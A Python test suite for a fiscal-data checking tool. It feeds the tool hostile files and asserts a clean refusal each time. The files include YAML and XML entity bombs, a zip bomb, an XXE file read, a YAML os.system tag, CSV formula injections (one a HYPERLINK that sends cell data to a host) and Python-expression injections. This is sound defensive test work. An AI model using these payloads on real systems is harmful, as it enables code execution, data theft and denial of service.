"""Files meant to do harm, or gone wrong in ways that do: each gets a clear answer from `hegui check`, soon.

A clear answer is an exit code, a stable problem code with its place where something was refused, every
row accounted for, and never a traceback. What could take the machine's memory runs in a process of
its own, under 5 seconds and 500 MB.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from time import perf_counter

import openpyxl
import pytest
from click.testing import CliRunner

from cli import main
from packs import HEADER, write_pack

ROOT = Path(__file__).resolve().parent.parent
SECONDS = 5
MEGABYTES = 500
HEADING = ("部门名称", "争取资金任务", "实际争取资金", "下年度公用经费")
ROW: tuple[object, ...] = ("财政局", 1000, 849, 200)


class Answer:
    """What the command said."""

    def __init__(self, code: int, out: str, err: str) -> None:
        self.code, self.out, self.err = code, out, err
        assert "Traceback" not in err + out, err[-3000:]
        assert code in (0, 1, 2), (code, err[-2000:])

    def __contains__(self, text: str) -> bool:
        return text in self.err or text in self.out

    @property
    def counts(self) -> list[int]:
        """Rows in, accepted, rejected, skipped."""
        match = re.search(r"(\d+) rows in = (\d+) accepted \+ (\d+) rejected.*? \+ (\d+) skipped", self.err)
        assert match, self.err
        found = [int(part) for part in match.groups()]
        assert found[0] == sum(found[1:])
        return found


def hegui(*arguments: str | Path, lang: str = "en", alone: bool = False) -> Answer:
    """The command; `alone` in a process of its own, with its memory bounded and its time limited."""
    words = ["--lang", lang, *map(str, arguments)]
    if not alone:
        found = CliRunner().invoke(main, words)
        if found.exception is not None and not isinstance(found.exception, SystemExit):
            raise found.exception
        return Answer(found.exit_code, found.stdout, found.stderr)
    code = f"import resource; resource.setrlimit(resource.RLIMIT_DATA, ({MEGABYTES} << 20, {MEGABYTES} << 20)); "
    code += f"import sys; sys.path.insert(0, {str(ROOT)!r}); from cli import main; main()"
    done = subprocess.run([sys.executable, "-c", code, *words], capture_output=True, text=True, encoding="utf-8",
                          timeout=SECONDS * 4, env={**os.environ, "LC_ALL": "C.UTF-8"}, check=False)  # fmt: skip
    return Answer(done.returncode, done.stdout, done.stderr)


def check(*paths: Path, alone: bool = False) -> Answer:
    began = perf_counter()
    answer = hegui("check", *paths, "--as-of", "2019-12-31", "--engine", "reference", alone=alone)
    assert perf_counter() - began < SECONDS * 2, "on a busy machine, twice the time"
    return answer


def book(path: Path, fill: Callable[[openpyxl.worksheet.worksheet.Worksheet], None] | None = None) -> Path:
    """A workbook of departments with one row, and what `fill` makes of it."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "部门"
    sheet.append(HEADING)
    sheet.append(ROW)
    if fill is not None:
        fill(sheet)
    workbook.save(path)
    return path


def repack(path: Path, **changes: Callable[[str], str] | str) -> Path:
    """The workbook with parts rewritten; `__` in a name stands for `/`, `_xml` for `.xml`."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, change in changes.items():
        part = name.replace("__", "/").replace("_xml", ".xml")
        parts[part] = (change(parts[part].decode()) if callable(change) else change).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


SHEET = "xl__worksheets__sheet1_xml"


def test_the_plain_workbook_is_read(tmp_path: Path) -> None:
    answer = check(book(tmp_path / "a.xlsx"))
    assert answer.code == 1
    assert answer.counts[:2] == [1, 1]
    assert "20.00" in answer.out  # 84.9 % costs 10 % of 200 yuan


# YAML and JSON


def test_a_yaml_alias_bomb_is_refused_before_it_grows(tmp_path: Path) -> None:
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(levels), encoding="utf-8")
    assert "yaml-alias" in check(path, alone=True)


@pytest.mark.parametrize("depth", [50, 5_000, 200_000])
@pytest.mark.parametrize(("name", "opened", "closed", "code"), [
    ("deep.yaml", "[", "]", "yaml-too-deep"), ("deep.json", "[", "]", "json-too-deep"),
    ("deep_map.json", '{"a":', "}", "json-too-deep"), ("deep_map.yaml", "{a: ", "}", "yaml-too-deep"),
])  # fmt: skip
def test_deep_nesting_is_refused(tmp_path: Path, name: str, opened: str, closed: str, code: str, depth: int) -> None:
    path = tmp_path / name
    path.write_text(opened * depth + "1" + closed * depth, encoding="utf-8")
    answer = check(path)
    assert answer.code == 2
    assert code in answer or "yaml-syntax" in answer or "json-syntax" in answer


@pytest.mark.parametrize(("name", "text", "code"), [
    ("twice.yaml", "provision: fiscal.budget_cut.fundraising_shortfall\ninputs: {has_task: true, has_task: false}",
     "duplicate-key"),
    ("twice.json", '{"provision": "fiscal.budget_cut.fundraising_shortfall", "inputs": {"has_task": true, "has_task": false}}',
     "duplicate-key"),
    ("tag.yaml", "!!python/object/apply:os.system ['echo pwned']", "yaml-tag"),
    ("two.yaml", "a: 1\n---\nb: 2", "yaml-syntax"),
    ("cut.json", '{"provision": "x", "inputs": {', "json-syntax"),
    ("nan.json", '{"provision": "fiscal.budget_cut.fundraising_shortfall", "inputs": {"task_amount": NaN}}', "json-syntax"),
    ("scalar.json", "3", "facts-shape"),
    ("empty.json", "", "file-empty"),
    ("surrogate.json", '{"provision": "\\ud800"}', "json-syntax"),
    ("huge_number.json", '{"provision": "fiscal.budget_cut.fundraising_shortfall", "inputs": {"task_amount": 1e999999999}}',
     "bad"),
    ("long_number.json", '{"provision": "fiscal.budget_cut.fundraising_shortfall", "inputs": {"task_amount": ' + "9" * 100_000
     + "}}", "too-long"),
])  # fmt: skip
def test_a_document_gone_wrong_is_refused_at_its_place(tmp_path: Path, name: str, text: str, code: str) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    answer = check(path)
    assert answer.code == 2
    assert code in answer, answer.err[-1500:]
    assert f"{name}" in answer


# CSV


def csv(path: Path, text: str | bytes) -> Path:
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return path


LINE = ",".join(HEADING)


def test_a_formula_in_a_name_is_text_in_every_output(tmp_path: Path) -> None:
    evil = ['=HYPERLINK("http://x/?"&A1;"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    lines = "\n".join(f"{json.dumps(name, ensure_ascii=False)},1000,849,200".replace('\\"', '""') for name in evil)
    path = csv(tmp_path / "a.csv", f"{LINE}\n{lines}\n")
    answer = hegui("check", path, "--as-of", "2019-12-31", "--format", "csv", "--engine", "reference")
    assert answer.counts[:2] == [4, 4]
    for cell in re.findall(r'(?:^|,)"?([=+@-][^,"]*)', answer.out, re.MULTILINE):
        assert re.fullmatch(r"-?[\d.,%]+", cell), cell
    out = tmp_path / "out.xlsx"
    hegui("check", path, "--as-of", "2019-12-31", "--format", "xlsx", "-o", out, "--engine", "reference")
    workbook = openpyxl.load_workbook(out)
    for row in (row for sheet in workbook for row in sheet.iter_rows()):
        assert not [cell.coordinate for cell in row if cell.data_type == "f"]


def test_a_header_over_several_lines_is_one_header(tmp_path: Path) -> None:
    path = csv(
        tmp_path / "a.csv",
        '"部门\n名称","争取资金\r\n任务","实际争取资金\n（元）",下年度公用经费\n财政局,1000,849,200\n',
    )
    answer = check(path)
    assert answer.code == 1
    assert answer.counts[:2] == [1, 1]


def test_mixed_line_ends_lose_no_row(tmp_path: Path) -> None:
    path = csv(tmp_path / "a.csv", f"{LINE}\r\n甲局,1000,849,200\n乙局,1000,900,200\r丙局,1000,950,200\r\n")
    answer = check(path)
    assert answer.counts[:2] == [3, 3]


def test_a_cell_of_a_million_characters_is_a_problem_at_its_cell(tmp_path: Path) -> None:
    path = csv(tmp_path / "a.csv", f"{LINE}\n{'局' * 10**6},1000,849,200\n财政局,{'9' * 10**6},849,200\n")
    answer = check(path)
    assert answer.code == 2
    assert "cell-too-long" in answer
    assert answer.counts[0] == 2
    assert len(answer.err) < 5_000, "a cell must not flood the screen"


@pytest.mark.parametrize(("data", "code"), [
    (b"\xe9\x83\xa8\xff\xfe\xff,1\n\xff\xff\xff,2\n", "unknown-encoding"),
    (f"{LINE}\n财政".encode() + b"\xe5\xb1" + b",1000,849,200\n", "broken-utf8"),
    (f"{LINE}\n财\0政局,1000,849,200\n".encode(), "nul-bytes"),
    (b"\0" * 100_000, "file-empty"),
    (bytes(range(256)) * 50, ""),
    (f'{LINE}\n"财政局,1000,849,200\n教育局,1,1,1\n'.encode(), "unclosed-quote"),
    (f'{LINE}\n财"政"局,1000,849,200\n"教"育局,1,1,1\n'.encode(), "broken-quotes"),
    (f"{LINE},{LINE}\n财政局,1,1,1,2,2,2,2\n".encode(), "duplicate-column"),
    (f"{LINE}\n财政局,1,1,1,1,1,1\n".encode(), "ragged-row"),
    (("\ufeff" * 3 + f"{LINE}\n财政局,x,1,1\n").encode(), "bad-amount"),
    (f"{LINE}\n财政局,１，０００,849,200\n".encode(), ""),
    (("," * 100_000 + "\n") .encode() * 20, ""),
    (("\n" * 1_000_000).encode() + LINE.encode(), ""),
])  # fmt: skip
def test_a_csv_gone_wrong_gets_an_answer(tmp_path: Path, data: bytes, code: str) -> None:
    answer = check(csv(tmp_path / "a.csv", data))
    assert answer.code == 2 or not code
    assert code in answer, answer.err[-1500:]


def test_gb18030_is_read(tmp_path: Path) -> None:
    path = csv(tmp_path / "a.csv", f"{LINE}\n财政局,1000,849,200\n".encode("gb18030"))
    assert check(path).counts[:2] == [1, 1]


# Workbooks


def test_a_zip_bomb_is_refused(tmp_path: Path) -> None:
    path = book(tmp_path / "a.xlsx")
    big = io.BytesIO()
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as out:
        for name in archive.namelist():
            if name != "xl/worksheets/sheet1.xml":
                out.writestr(name, archive.read(name))
        with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(b"<worksheet><sheetData>")
            for _ in range(3000):
                part.write(b" " * (1 << 20))
            part.write(b"</sheetData></worksheet>")
    path.write_bytes(big.getvalue())
    answer = check(path, alone=True)
    assert answer.code == 2
    assert "workbook-too-large" in answer


def test_an_entity_bomb_is_refused(tmp_path: Path) -> None:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">{entities}]>'
    path = repack(
        book(tmp_path / "a.xlsx"), **{SHEET: lambda xml: bomb + xml.partition("?>")[2].replace("财政局", "&a9;")}
    )
    answer = check(path)
    assert answer.code == 2
    assert "workbook-doctype" in answer


def test_an_external_entity_reads_no_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("TOPSECRET", encoding="utf-8")
    doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
    path = repack(book(tmp_path / "a.xlsx"),
                  **{SHEET: lambda xml: doctype + re.sub(r"<v>\d+</v>", "<v>&e;</v>", xml, count=1)})  # fmt: skip
    answer = check(path)
    assert answer.code == 2
    assert "TOPSECRET" not in answer


@pytest.mark.parametrize(("data", "code"), [
    (b"<html><body><table><tr><td>x</td></tr></table></body></html>", "not-a-workbook"),
    (b'\xef\xbb\xbf<?xml version="1.0"?><html></html>', "not-a-workbook"),
    (b"PK\x03\x04" + b"\0" * 100, ""),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000, ""),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") * 200, "file-encrypted"),
    (b"x", "not-a-workbook"),
])  # fmt: skip
def test_what_is_only_called_a_workbook_is_refused(tmp_path: Path, data: bytes, code: str) -> None:
    answer = check(csv(tmp_path / "a.xlsx", data))
    assert answer.code == 2
    assert code in answer, answer.err[-1500:]


def test_a_workbook_cut_in_the_middle_is_refused(tmp_path: Path) -> None:
    path = book(tmp_path / "a.xlsx")
    whole = path.read_bytes()
    for part in (3, 2):
        path.write_bytes(whole[: len(whole) * (part - 1) // part])
        assert check(path).code == 2


def test_merged_cells_are_told(tmp_path: Path) -> None:
    def fill(sheet: openpyxl.worksheet.worksheet.Worksheet) -> None:
        sheet.append(("教育局", 1000, 900, 200))
        sheet.merge_cells("B2:B3")

    answer = check(book(tmp_path / "a.xlsx", fill))
    assert "merged-cells" in answer
    assert answer.counts[0] == 2


def test_a_hidden_sheet_is_read_and_told(tmp_path: Path) -> None:
    path = book(tmp_path / "a.xlsx")
    workbook = openpyxl.load_workbook(path)
    workbook.create_sheet("首页").append(("说明",))
    workbook["部门"].sheet_state = "veryHidden"
    workbook.active = 1
    workbook.save(path)
    answer = check(path)
    assert "hidden-sheet" in answer
    assert answer.counts[1] == 1


def test_a_formula_that_was_never_computed_is_a_problem_not_a_missing_fact(tmp_path: Path) -> None:
    def fill(sheet: openpyxl.worksheet.worksheet.Worksheet) -> None:
        sheet["B2"] = "=500+500"

    answer = check(book(tmp_path / "a.xlsx", fill))
    assert answer.code == 2
    assert "!部门!B2" in answer
    assert answer.counts[2] == 1


def test_dates_of_the_1904_system_are_those_the_officer_sees(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    workbook.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    sheet = workbook.active
    assert sheet is not None
    sheet.append(("文号", "收文日期", "是否下达", "下达日期", "资金性质"))
    sheet.append(("楚财1号", date(2019, 4, 30), "是", date(2019, 5, 9), "已明确"))
    sheet.append(("楚财2号", date(2019, 4, 30), "是", date(2019, 5, 10), "已明确"))
    path = tmp_path / "a.xlsx"
    workbook.save(path)
    answer = hegui("check", path, "--as-of", "2019-12-31", "--format", "json", "--engine", "reference")
    if "unrecognised" in answer.err or "ambiguous" in answer.err:
        pytest.fail(answer.err[-1500:])
    assert "2023" not in answer.out  # what the days would be, read in the other system
    assert "1904" not in answer.out
    assert "2019-05-09" in answer.out


def test_an_error_value_in_a_cell_is_a_problem_at_it(tmp_path: Path) -> None:
    path = repack(book(tmp_path / "a.xlsx"), **{SHEET: lambda xml: re.sub(
        r'<c r="C2"[^>]*>.*?</c>', '<c r="C2" t="e"><v>#DIV/0!</v></c>', xml)})  # fmt: skip
    answer = check(path)
    assert answer.code == 2
    assert "!部门!C2: cell-error" in answer


def test_a_long_id_stored_as_a_number_is_never_altered(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADING)
    sheet.append((915323001234567890, 1000, 849, 200))
    path = tmp_path / "a.xlsx"
    workbook.save(path)
    answer = check(path)
    assert answer.code == 2
    assert "9153230012345678" not in answer.out


def test_a_sheet_whose_used_range_is_a_million_rows_is_read(tmp_path: Path) -> None:
    def stretch(xml: str) -> str:
        xml = re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml)
        return xml.replace("</sheetData>", '<row r="1048576"><c r="D1048576" s="0"/></row></sheetData>')

    answer = check(repack(book(tmp_path / "a.xlsx"), **{SHEET: stretch}))
    assert answer.code == 1
    assert answer.counts[1] == 1


# Rule packs


@pytest.mark.parametrize(("expression", "code"), [
    ("__import__('os').system('x')", "expression-not-allowed"),
    ("m.real > 0元", "expression-not-allowed"),
    ("(lambda: 1)() > 0", "expression-not-allowed"),
    ("[x for x in (1, 2)] == 1", "expression-not-allowed"),
    ("m > 0元 or exec('x')", "unknown-function"),
    ("(" * 1000 + "true" + ")" * 1000, "expression-too-deep"),
    ("not " * 900 + "true", "expression-too-deep"),
    ("true and " * 400 + "true", ""),
    ("m > 0元 and " * 2000 + "true", "expression-too-long"),
    ("9" * 3000 + " > 1", ""),
    ("m > " + "9" * 3000 + "元", ""),
    ("1 / 0 > 1", ""),
    ("m ** 9 > 0元", "expression-not-allowed"),
    ("f'{m}' == 'a'", "expression-not-allowed"),
    ("m > 0元 # comment", "expression-not-allowed"),
    ("\U00020001 > 1", "expression-not-allowed"),
    ("m > 0元 if", "expression-syntax"),
    ("'" + "a" * 100 + "' == 'b", ""),
])  # fmt: skip
def test_an_expression_in_a_pack_does_nothing_but_mean(tmp_path: Path, expression: str, code: str) -> None:
    folder = write_pack(tmp_path / "pack", "[]")
    provision = {"id": "tiny.one", "kind": "obligation", "label": "一", "plan": "1", "at": "一", "summary": "概",
                 "facts": [{"m": {"type": "money", "max": "100元"}}], "duty": [expression]}  # fmt: skip
    (folder / "provisions" / "all.yaml").write_text("- id: tiny.one\n" + "".join(
        f"  {key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in provision.items() if key != "id"),
        encoding="utf-8")  # fmt: skip
    answer = hegui("--pack", folder, "rules", "show", "tiny.one")
    assert answer.code == (2 if code else answer.code)
    assert code in answer, answer.err[-1500:]


@pytest.mark.parametrize(("name", "text", "code"), [
    ("pack.yaml", "a: &a [*a]", "yaml-"),
    ("pack.yaml", "[" * 100_000, "yaml-"),
    ("pack.yaml", HEADER + "\nid: again\n", "duplicate-key"),
    ("pack.yaml", "\0", "yaml-"),
    ("provisions/all.yaml", "- id: a\n  kind: nothing\n", "bad-value"),
    ("provisions/all.yaml", "- {id: a, kind: obligation, duty: [true], facts: [{m: {type: money, min: x}}]}", "bad-value"),
    ("provisions/all.yaml", "- id: a\n- id: a\n", "duplicate-id"),
])  # fmt: skip
def test_a_pack_gone_wrong_is_refused_at_its_place(tmp_path: Path, name: str, text: str, code: str) -> None:
    folder = write_pack(tmp_path / "pack", "[]")
    (folder / name).write_text(text, encoding="utf-8")
    answer = hegui("--pack", folder, "rules", "list")
    assert answer.code == 2
    assert code in answer, answer.err[-1500:]
    assert Path(name).name in answer


def test_a_file_that_is_not_there_and_a_folder_are_answered(tmp_path: Path) -> None:
    for path, code in ((tmp_path / "none.xlsx", "unreadable-file"), (tmp_path, "is-folder")):
        answer = check(path)
        assert answer.code == 2
        assert code in answer


def test_a_hundred_files_are_each_answered(tmp_path: Path) -> None:
    paths = [csv(tmp_path / f"{number}.csv", b"\xff" * number) for number in range(1, 101)]
    answer = check(*paths)
    assert answer.code == 2
    assert all(path.name in answer for path in paths)
